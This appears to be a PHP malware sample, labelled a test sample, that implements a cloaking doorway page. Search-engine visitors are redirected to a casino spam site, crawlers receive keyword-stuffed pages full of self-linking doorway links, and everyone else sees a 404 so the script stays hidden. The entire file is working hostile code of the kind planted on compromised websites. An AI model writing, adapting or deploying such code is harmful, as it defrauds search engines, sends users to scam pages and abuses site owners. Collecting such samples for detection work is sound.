<?php
// Test sample: doorway page generator. Visitors from search engines are
// redirected to the spam target; crawlers get a keyword-stuffed page built
// from the requested path; everyone else gets a 404.
$ref = isset($_SERVER['HTTP_REFERER']) ? $_SERVER['HTTP_REFERER'] : '';
$ua  = isset($_SERVER['HTTP_USER_AGENT']) ? $_SERVER['HTTP_USER_AGENT'] : '';
$key = trim(str_replace(array('-', '_', '/'), ' ', urldecode(parse_url($_SERVER['REQUEST_URI'], PHP_URL_PATH))));

if (preg_match('/google|bing|yahoo|yandex/i', $ref)) {
    header('Location: http://casino.spam.example/?k=' . urlencode($key), true, 302);
    exit;
}
if (preg_match('/bot|crawl|spider/i', $ua)) {
    $words = array('best', 'cheap', 'online', 'free', 'bonus', 'review', 'buy', '2024', 'top', 'real money');
    mt_srand(crc32($key));
    echo '<html><head><title>' . htmlspecialchars(ucwords($key)) . ' - ' . $words[mt_rand(0, 9)] . ' ' . $words[mt_rand(0, 9)] . '</title>';
    echo '<meta name="description" content="' . htmlspecialchars($key) . ' ' . implode(' ', $words) . '"></head><body>';
    for ($i = 0; $i < 30; $i++) {
        echo '<p>' . htmlspecialchars($key) . ' ' . $words[mt_rand(0, 9)] . ' ' . $words[mt_rand(0, 9)] . ' ' . htmlspecialchars($key) . '.</p>';
        echo '<a href="/' . urlencode($key . '-' . $words[mt_rand(0, 9)]) . '">' . htmlspecialchars($key) . ' ' . $words[mt_rand(0, 9)] . '</a> ';
    }
    echo '</body></html>';
    exit;
}
http_response_code(404);
